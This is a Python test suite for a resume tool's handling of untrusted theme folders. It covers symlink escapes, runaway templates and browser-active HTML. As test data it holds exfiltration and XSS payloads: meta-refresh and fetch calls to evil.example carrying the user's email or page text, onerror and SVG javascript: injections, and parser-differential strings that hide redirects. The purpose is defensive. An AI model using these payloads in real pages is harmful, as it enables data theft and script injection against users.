"""Untrusted theme folders: no file outside the folder is read, no template can hang or exhaust jobkit,
and no HTML a theme writes can run a script or fetch anything when opened in a browser."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
import tinyhtml5
from support.paths import EXAMPLES

from toolkit.api import render_resume
from toolkit.cli import cli
from toolkit.errors import JobkitError
from toolkit.preview import page_with_reload
from toolkit.render.html import CONTENT_POLICY, active_content, with_content_policy

PROFILE = EXAMPLES / "profile.yaml"
SECRET = "TOKEN-7f3a9c-never-in-a-document"


def _theme(tmp_path: Path, **files: str) -> Path:
    """A theme folder holding theme.yaml and ``files`` (``__`` in a name is a folder separator)."""
    folder = tmp_path / "theme"
    folder.mkdir()
    (folder / "theme.yaml").write_text("description: a stranger's theme\n", encoding="utf-8")
    for name, text in files.items():
        path = folder / name.replace("__", "/")
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    return folder


def _secret_file(tmp_path: Path) -> Path:
    secret = tmp_path / "private" / "credentials"
    secret.parent.mkdir()
    secret.write_text(f"{SECRET}\n", encoding="utf-8")
    return secret


def _render(runner, folder: Path, target: Path, fmt: str = "html", env: dict[str, str] | None = None):
    return runner.invoke(
        cli, ["resume", str(PROFILE), "--theme", str(folder), "-f", fmt, "-o", str(target)], env=env or {}
    )


# --- links and special files in a theme folder ------------------------------------------------------


@pytest.mark.parametrize(
    "link, template",
    [
        ("templates/resume/document.html.j2", None),  # the template itself is the secret
        ("theme.css", None),  # the secret as CSS, written into every HTML document
        ("templates/outside", '{% include "outside/credentials" %}'),  # a linked folder, then an include
    ],
)
def test_a_theme_file_linked_outside_the_theme_folder_is_refused_never_read(runner, tmp_path, link, template):
    secret = _secret_file(tmp_path)
    folder = _theme(tmp_path, **({"templates__resume__document.html.j2": template} if template else {}))
    (folder / link).parent.mkdir(parents=True, exist_ok=True)
    (folder / link).symlink_to(secret.parent if link.endswith("outside") else secret)
    target = tmp_path / "resume.html"
    result = _render(runner, folder, target)
    assert result.exit_code == 1, result.output
    assert f"{link}: is a link that leads outside the theme folder" in result.output
    assert SECRET not in result.output and "Traceback" not in result.output
    assert not target.exists()


def test_a_link_inside_the_theme_folder_still_works(runner, tmp_path):
    folder = _theme(tmp_path, **{"shared.css": "h1 { letter-spacing: 3pt; }\n"})
    (folder / "theme.css").symlink_to(folder / "shared.css")
    target = tmp_path / "resume.html"
    assert _render(runner, folder, target).exit_code == 0
    assert "letter-spacing: 3pt" in target.read_text(encoding="utf-8")


def test_a_link_swapped_in_after_the_theme_was_checked_is_refused_at_render(tmp_path):
    """--watch and preview keep a checked theme; the template loader checks every file it opens again."""
    from toolkit.inputs.themes import load_theme

    secret = _secret_file(tmp_path)
    folder = _theme(tmp_path, **{"templates__resume__document.html.j2": "<p>{{ doc.person.name }}</p>\n"})
    theme = load_theme(str(folder))
    template = folder / "templates" / "resume" / "document.html.j2"
    template.unlink()
    template.symlink_to(secret)
    with pytest.raises(JobkitError) as caught:
        render_resume(PROFILE, theme=theme, fmt="html")
    assert "is a link that leads outside the theme folder" in str(caught.value)
    assert SECRET not in str(caught.value)


def test_a_fifo_among_a_themes_templates_is_refused_without_blocking(runner, tmp_path):
    folder = _theme(tmp_path)
    (folder / "templates" / "resume").mkdir(parents=True)
    os.mkfifo(folder / "templates" / "resume" / "document.html.j2")
    result = _render(runner, folder, tmp_path / "resume.html")
    assert result.exit_code == 1
    assert "document.html.j2: is not a regular file; a theme's templates must be files" in result.output


# --- templates that never end -------------------------------------------------------------------------


def test_a_template_that_calls_itself_without_end_gets_a_located_error(runner, tmp_path):
    folder = _theme(
        tmp_path, **{"templates__resume__document.html.j2": "{% macro f(n) %}{{ f(n + 1) }}{% endmacro %}{{ f(0) }}\n"}
    )
    result = _render(runner, folder, tmp_path / "resume.pdf", fmt="pdf")
    assert result.exit_code == 1
    assert "document.html.j2:1: the theme's templates failed: they nest too deeply, or a macro" in result.output
    assert "Traceback" not in result.output and "RecursionError" not in result.output


def test_a_template_nested_thousands_deep_gets_a_located_error(runner, tmp_path):
    folder = _theme(tmp_path, **{"templates__resume__document.html.j2": "{{ " + "(" * 5000 + "1" + ")" * 5000 + " }}"})
    result = _render(runner, folder, tmp_path / "resume.html")
    assert result.exit_code == 1
    assert "document.html.j2: template syntax: brackets or tags nested too deeply" in result.output
    assert "Traceback" not in result.output


@pytest.mark.slow
def test_a_template_that_writes_without_end_stops_at_the_memory_budget(runner, tmp_path):
    loop = "{% for i in range(100000) %}{% for j in range(100000) %}" + "x" * 200 + "{% endfor %}{% endfor %}"
    folder = _theme(tmp_path, **{"templates__resume__document.html.j2": loop})
    target = tmp_path / "resume.html"
    result = _render(runner, folder, target, env={"JOBKIT_MEMORY_LIMIT_MB": "200", "JOBKIT_TIME_LIMIT": "60"})
    assert result.exit_code == 1
    assert "filling the theme's templates needed more than its memory budget of 200 MiB" in result.output
    assert not target.exists()


@pytest.mark.slow
def test_a_template_that_loops_without_end_stops_at_the_time_budget(runner, tmp_path):
    loop = "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}"
    folder = _theme(tmp_path, **{"templates__resume__document.html.j2": loop})
    result = _render(runner, folder, tmp_path / "resume.html", env={"JOBKIT_TIME_LIMIT": "2"})
    assert result.exit_code == 1
    # Filled inside the child that makes the document, under the document's one time budget.
    assert "making the document took longer than its budget of 2 s" in result.output


# --- what a browser would run or fetch -----------------------------------------------------------------


@pytest.mark.parametrize(
    "markup, named",
    [
        ('<meta http-equiv="refresh" content="0; url=https://evil.example/?{{ doc.person.email }}">', "<meta"),
        ("<script>fetch('https://evil.example/?' + document.body.innerText)</script>", "<script>"),
        ('<link rel="dns-prefetch" href="//{{ doc.person.name | replace(" ", "-") }}.evil.example">', "<link>"),
        ('<iframe src="https://evil.example/"></iframe>', "<iframe>"),
        ('<base href="https://evil.example/">', "<base>"),
        ('<img src="data:," onerror="alert(1)">', "onerror="),
        ('<svg><SCRIPT type="text/javascript">alert(1)</SCRIPT></svg>', "<script>"),
    ],
)
def test_a_theme_template_may_not_write_scripts_redirects_or_fetches(runner, tmp_path, markup, named):
    page = "<!DOCTYPE html><html><head>" + markup + "</head><body><p>{{ doc.person.name }}</p></body></html>\n"
    folder = _theme(tmp_path, **{"templates__resume__document.html.j2": page})
    for fmt in ("html", "pdf"):
        target = tmp_path / f"resume.{fmt}"
        result = _render(runner, folder, target, fmt=fmt)
        assert result.exit_code == 1, result.output
        assert "the theme's templates write" in result.output and named in result.output
        assert not target.exists()


def test_data_scripts_are_not_active_content():
    assert active_content('<script type="application/json">{"a": 1}</script><p class="one">x</p>') is None
    assert active_content('<p title="<script>">text &lt;script&gt;</p>') is None


def _parsed_head(html: str) -> list:
    document = tinyhtml5.parse(html)
    head = document.find("{http://www.w3.org/1999/xhtml}head")
    return list(head)


def test_html_output_runs_no_script_and_fetches_nothing_in_a_browser(runner, tmp_path):
    # theme.css may name URLs; the PDF renderer refuses them, a browser must be told to.
    folder = _theme(tmp_path, **{"theme.css": "body { background: url(https://evil.example/pixel.png); }\n"})
    target = tmp_path / "resume.html"
    assert _render(runner, folder, target).exit_code == 0
    html = target.read_text(encoding="utf-8")
    assert html.startswith("<!DOCTYPE html>")
    first = _parsed_head(html)[0]
    assert first.get("http-equiv") == "Content-Security-Policy"
    assert "default-src 'none'" in first.get("content") and "script-src" not in first.get("content")
    assert tinyhtml5.parse(html).get("lang") == "en-US", "the document keeps its language"


@pytest.mark.parametrize(
    "html",
    [
        "<p>no head at all</p><script>alert(1)</script>",
        '<!DOCTYPE html><html title="a><head>"><script>alert(1)</script><head></head>',
        "<!-- <head> --><script>alert(1)</script>",
    ],
)
def test_the_content_policy_comes_before_anything_a_page_could_run(html):
    guarded = with_content_policy(html)
    assert guarded.index(CONTENT_POLICY) < guarded.lower().index("<script")
    first = _parsed_head(guarded)[0]
    assert first.get("http-equiv") == "Content-Security-Policy"


def test_the_preview_serves_the_page_with_its_own_policy_so_its_reload_script_runs(tmp_path):
    html = render_resume(PROFILE, fmt="html").content.decode("utf-8")
    assert CONTENT_POLICY in html
    served = page_with_reload(html, 1, "nonce123")
    assert CONTENT_POLICY not in served and '<script nonce="nonce123">' in served


# --- a theme's files are inputs -------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["theme.css", "theme.yaml", "templates/resume/document.html.j2"])
def test_an_output_never_replaces_a_file_of_the_theme(runner, tmp_path, name):
    folder = _theme(
        tmp_path,
        **{
            "theme.css": "h1 { letter-spacing: 1pt; }\n",
            "templates__resume__document.html.j2": "<p>{{ doc.kind }}</p>",
        },
    )
    before = (folder / name).read_bytes()
    result = runner.invoke(cli, ["resume", str(PROFILE), "--theme", str(folder), "-f", "txt", "-o", str(folder / name)])
    assert result.exit_code == 1
    assert "is the input file" in result.output
    assert (folder / name).read_bytes() == before


def test_watch_renders_again_when_a_theme_file_is_saved(tmp_path):
    folder = _theme(tmp_path, **{"theme.css": "h1 { letter-spacing: 1pt; }\n"})
    sources = render_resume(PROFILE, theme=str(folder), fmt="html").sources
    assert folder / "theme.css" in sources and folder / "theme.yaml" in sources


# --- the tree a browser builds ------------------------------------------------------------------------

# Markup that Python's html.parser reads as a comment or text, where a browser (and the HTML5 standard)
# ends the comment at once and runs what follows.
PARSER_DIFFERENTIALS = [
    '<!--><meta http-equiv="refresh" content="0;url=https://evil.example/c?e={{ doc.person.email|urlencode }}">',
    '<!----!><meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<!-- x --!><meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<!---><meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<![CDATA[ x ]]><meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<?php x ?><meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '</ x><meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<svg><![CDATA[ ]]></svg><meta http-equiv="refresh" content="0;url=https://evil.example/">',
]


@pytest.mark.parametrize("markup", PARSER_DIFFERENTIALS)
def test_markup_a_browser_reads_as_a_redirect_is_refused_however_it_is_hidden(runner, tmp_path, markup):
    page = "<!DOCTYPE html><html><head>" + markup + "</head><body><p>{{ doc.person.name }}</p></body></html>\n"
    folder = _theme(tmp_path, **{"templates__resume__document.html.j2": page})
    target = tmp_path / "resume.html"
    result = _render(runner, folder, target)
    written = target.read_text(encoding="utf-8") if target.exists() else ""
    # Refused, or written without anything a browser would act on.
    assert result.exit_code == 1 or all(
        element.get("http-equiv") in (None, "Content-Security-Policy") for element in tinyhtml5.parse(written).iter()
    ), written
    if result.exit_code == 1:
        assert "the theme's templates write" in result.output


@pytest.mark.parametrize(
    "markup",
    [
        '<select><meta http-equiv="refresh" content="0;url=https://evil.example/"></select>',  # kept by newer parsers
        '<noscript><p title="</noscript><meta http-equiv=refresh content=0;url=https://evil.example/>"></p></noscript>',
        '<table><tr><td><math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    ],
)
def test_what_is_written_is_the_tree_that_was_checked(runner, tmp_path, markup):
    page = "<!DOCTYPE html><html><head></head><body>" + markup + "<p>{{ doc.person.name }}</p></body></html>\n"
    folder = _theme(tmp_path, **{"templates__resume__document.html.j2": page})
    target = tmp_path / "resume.html"
    result = _render(runner, folder, target)
    if result.exit_code == 1:
        assert "the theme's templates write" in result.output
        return
    written = target.read_text(encoding="utf-8")
    assert "http-equiv=refresh" not in written.replace('"', "").lower()
    assert '<meta http-equiv="refresh' not in written.lower() and "<img src=x" not in written.lower()


@pytest.mark.parametrize(
    "markup",
    [
        '<svg><a><set attributeName="href" to="file:///etc/passwd"/><text>x</text></a></svg>',
        '<svg><a href="#x"><animate attributeName="xlink:href" values="javascript:alert(1)"/><text>x</text></a></svg>',
    ],
)
def test_svg_animation_that_would_change_a_link_after_the_check_is_refused(runner, tmp_path, markup):
    page = "<!DOCTYPE html><html><head></head><body>" + markup + "<p>{{ doc.person.name }}</p></body></html>\n"
    folder = _theme(tmp_path, **{"templates__resume__document.html.j2": page})
    result = _render(runner, folder, tmp_path / "resume.html")
    assert result.exit_code == 1, result.output
    assert "the theme's templates write a <" in result.output
